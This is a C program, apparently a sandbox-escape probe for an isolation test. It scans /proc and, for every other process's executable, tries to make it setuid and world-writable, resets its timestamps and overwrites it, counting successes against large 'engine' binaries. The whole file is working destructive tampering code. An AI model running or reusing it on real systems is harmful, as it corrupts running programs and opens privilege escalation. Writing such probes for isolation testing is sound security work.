// SPDX-License-Identifier: Apache-2.0
// overwrite COUNTERS PROGRAM: opens the executable of every process that does not run PROGRAM, changes its mode and
// its times, and writes to it once it is not busy. COUNTERS: executables opened, those of them that are as large as an
// engine's program is, changes of these.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile uint64_t *counters;

enum { ENGINE_BYTES = 1 << 20 };

static void judge(int result, int of_engine)
{
    if (result >= 0 && of_engine)
        ++counters[2];
}

static void attack(int executable, int of_engine)
{
    char path[64];
    judge(fchmod(executable, 04777), of_engine);
    judge(futimens(executable, 0), of_engine);
    snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
    for (int i = 0; i < 20; i++) {
        int file = open(path, O_WRONLY | O_CLOEXEC);
        if (file >= 0 || errno != ETXTBSY) {
            judge(file, of_engine);
            if (file >= 0 && pwrite(file, "overwritten", 11, 0) < 0)
                perror("write");
            close(file);
            return;
        }
        usleep(500);
    }
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    char path[300];
    struct stat own, is, wanted;
    int file = open(argv[1], O_RDWR);
    counters = mmap(0, 64, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (file < 0 || counters == MAP_FAILED || stat(argv[2], &wanted) || stat("/proc/self/exe", &own))
        return 1;
    puts("watching");
    fflush(stdout);
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int executable = open(path, O_RDONLY | O_CLOEXEC);
            if (executable < 0)
                continue;
            if (!fstat(executable, &is) && is.st_ino != wanted.st_ino && is.st_ino != own.st_ino) {
                int of_engine = is.st_size >= ENGINE_BYTES;
                ++counters[0];
                counters[1] += of_engine;
                attack(executable, of_engine);
            }
            close(executable);
        }
        closedir(proc);
    }
}
